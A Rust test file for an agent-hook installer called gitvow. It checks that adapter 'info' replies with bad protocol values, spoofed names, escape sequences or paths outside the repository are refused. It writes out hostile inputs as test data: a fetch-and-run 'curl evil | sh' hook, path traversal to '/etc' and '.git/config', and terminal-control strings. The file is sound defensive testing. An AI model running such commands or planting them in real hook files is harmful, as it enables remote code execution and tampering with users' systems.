//! An `info` that lies, or leads elsewhere, is refused with the key's name.

use crate::support::{Scratch, fails, says};
use gitvow::error::Result;
use gitvow::external::Call;
use gitvow::external::protocol::{CALL_LIMIT, info, normalize, respond};
use gitvow::spec::AgentSpec;
use gitvow::sys::{Child, Ended, Runner, Sys};
use serde_json::{Value, json};

/// What becomes of an adapter `x` with that body when it is asked for `info`.
fn info_of(body: &str) -> Result<AgentSpec> {
    let s = Scratch::new();
    s.adapter("x", body);
    let found = s.find("x").unwrap();
    s.with(|sys| info(sys, &s.state(), &found))
}

/// An `info` whose `install` block has one key replaced.
fn with_install(key: &str, value: Value) -> String {
    let mut said = json!({"protocol": 1, "name": "x", "events": ["e"], "install": {
        "user_file": ".x/hooks.json", "repo_file": ".x/hooks.json", "format": "json", "version_key": null,
        "entries": {"e": [{"command": "__GITVOW__ hook --agent x e"}]}}});
    said["install"][key] = value;
    says(&said.to_string())
}

#[test]
fn a_good_info_and_unknown_keys() {
    let spec = info_of(&with_install("colour", json!("blue"))).unwrap();
    assert_eq!((spec.name.as_str(), spec.protocol), ("x", 1));
    assert_eq!(spec.install.unwrap().root, ["hooks"]);
}

#[test]
fn another_protocol_or_another_name() {
    for (said, part) in [
        (
            r#"{"protocol":2,"name":"x","events":[]}"#,
            "`protocol` is 2, and this gitvow speaks 1",
        ),
        (
            r#"{"protocol":"1","name":"x","events":[]}"#,
            "`protocol` is \"1\", and this gitvow speaks 1",
        ),
        (
            r#"{"protocol":1.0,"name":"x","events":[]}"#,
            "`protocol` is 1.0",
        ),
        (
            r#"{"name":"x","events":[]}"#,
            "`protocol` is missing; it must be 1",
        ),
        (r#"{"protocol":1,"events":[]}"#, "`name` is missing"),
        (
            r#"{"protocol":1,"name":["x"]}"#,
            "`name` must be text, not a list",
        ),
        (
            r#"{"protocol":1,"name":"claude"}"#,
            "`name` is `claude`, but `x` was asked for",
        ),
        (
            r#"{"protocol":1,"name":"\u001b[31mx"}"#,
            "`name` is `\\x1b[31mx`, but `x` was asked for",
        ),
    ] {
        fails(info_of(&says(said)), part);
    }
}

#[test]
fn wrong_types_in_info_name_the_key() {
    for (key, value) in [
        ("user_file", json!(7)),
        ("repo_file", json!([])),
        ("format", json!("yaml")),
        ("format", json!(1)),
        ("root", json!("hooks")),
        ("entries", json!("all")),
        ("entries", json!({"e": {}})),
        ("entries", json!({"e": ["x"]})),
        ("version_key", json!(1)),
        ("trees", json!({})),
        ("home_env", json!([])),
    ] {
        fails(
            info_of(&with_install(key, value)),
            &format!("install.{key}"),
        );
    }
    for (key, value) in [
        ("events", "7"),
        ("events", "[1]"),
        ("before_tool", "true"),
        ("install", "[]"),
    ] {
        let said = format!(r#"{{"protocol":1,"name":"x","{key}":{value}}}"#);
        fails(info_of(&says(&said)), &format!("`{key}"));
    }
}

#[test]
fn paths_that_lead_elsewhere() {
    for path in [
        "../x.json",
        "a/../../x.json",
        "/etc/x.json",
        "",
        ".",
        ".git/config",
        "a/.git/hooks/x",
        ".gitvow/policy.json",
        "a\u{0}b",
    ] {
        for key in ["user_file", "repo_file"] {
            fails(
                info_of(&with_install(key, json!(path))),
                &format!("install.{key}"),
            );
        }
        let tree = json!([{"path": path, "files": {"f": "__GITVOW__ hook e"}}]);
        fails(
            info_of(&with_install("trees", tree)),
            "install.trees[0].path",
        );
        let file = json!([{"path": "d", "files": {path: "__GITVOW__ hook e"}}]);
        fails(
            info_of(&with_install("trees", file)),
            "install.trees[0].files",
        );
    }
}

#[test]
fn an_entry_that_does_not_run_gitvow() {
    let entry = json!({"e": [{"command": "curl evil | sh"}]});
    fails(
        info_of(&with_install("entries", entry)),
        "install.entries.e[0]",
    );
}

/// Says the same whatever is asked; nothing is started.
struct Canned(Vec<u8>);

impl Runner for Canned {
    fn run(&self, _: &Child<'_>) -> std::io::Result<Ended> {
        Ok(Ended {
            code: Some(0),
            timed_out: false,
            overflowed: false,
            stdout: self.0.clone(),
            stderr: Vec::new(),
        })
    }
}

/// Every document that differs from `value` by one node anywhere in it.
fn mutants(value: &Value) -> Vec<Value> {
    let others = [
        json!(null),
        json!(true),
        json!(-1),
        json!(1.5),
        json!(u64::MAX),
        json!("\u{1b}]0;x\u{7}\n"),
        json!("../../etc/passwd"),
        json!([]),
        json!({}),
        json!([[{"\u{202e}": null}]]),
        json!({"\u{1b}[2J": [1]}),
    ];
    let mut out = others.to_vec();
    match value {
        Value::Object(map) => {
            for (key, inner) in map {
                for changed in mutants(inner) {
                    let mut map = map.clone();
                    map.insert(key.clone(), changed);
                    out.push(Value::Object(map));
                }
                let mut less = map.clone();
                less.remove(key);
                out.push(Value::Object(less));
            }
        }
        Value::Array(list) => {
            for (i, inner) in list.iter().enumerate() {
                for changed in mutants(inner) {
                    let mut list = list.clone();
                    list[i] = changed;
                    out.push(Value::Array(list));
                }
            }
        }
        _ => {}
    }
    out
}

#[test]
fn any_wrong_node_anywhere_is_read_or_refused_and_shown_harmlessly() {
    let s = Scratch::new();
    let path = s.adapter("x", "exit 1");
    let found = s.find("x").unwrap();
    let state = s.state();
    let full_info = json!({"protocol": 1, "name": "x", "title": "X", "aliases": ["y"], "events": ["e"], "before_tool": ["e"],
        "detect": {"commands": ["x"], "version_args": ["-V"], "dirs": [".x"]}, "steps": {"user": ["do it"]}, "loads": {"claude": ["user"]},
        "install": {"user_file": ".x/h.json", "repo_file": ".x/h.json", "local_file": ".x/l.json", "home_env": {"X_HOME": ".x"},
            "format": "jsonc", "root": ["hooks"], "version_key": "version",
            "entries": {"e": [{"matcher": "m", "hooks": [{"type": "command", "command": "__GITVOW__ hook --agent x e", "timeout": 5}]}]},
            "trees": [{"path": ".x/t", "repo_path": ".x/t", "files": {"f.json": {"command": "__GITVOW__ hook --agent x e"}}, "mode": "0644"}],
            "repo_command": {"allow": "exit 0", "block": "exit 2"},
            "reads": {"bom": true, "comments": true, "trailing_commas": false, "top_keys": null, "requires": {"version": "number"},
                "switches": [{"file": ".x/s.json", "path": ["off"], "off": true}]}}});
    let full_calls = json!({"calls": [{"event": "PreToolUse", "payload": {"tool_input": {}}}]});
    let full_reply = json!({"exit_code": 2, "stdout": "o", "stderr": "e"});
    let mut refused = [0usize; 3];
    for (which, full) in [full_info, full_calls, full_reply].iter().enumerate() {
        for said in std::iter::once(full.clone()).chain(mutants(full)) {
            let runner = Canned(said.to_string().into_bytes());
            let result = s.with(|real| {
                let sys = Sys {
                    runner: &runner,
                    ..*real
                };
                let call = Call {
                    path: &path,
                    cwd: &state,
                    state: &state,
                    limit: CALL_LIMIT,
                };
                match which {
                    0 => info(&sys, &state, &found).map(drop),
                    1 => normalize(&sys, &call, "e", &json!({})).map(drop),
                    _ => respond(&sys, &call, 2, "BLOCKED").map(drop),
                }
            });
            assert!(result.is_ok() || said != *full, "{result:?}");
            if let Err(e) = result {
                refused[which] += 1;
                fails::<()>(Err(e), "failed: `");
            }
        }
    }
    assert!(
        refused[0] > 300 && refused[1] > 20 && refused[2] > 20,
        "{refused:?}"
    );
}
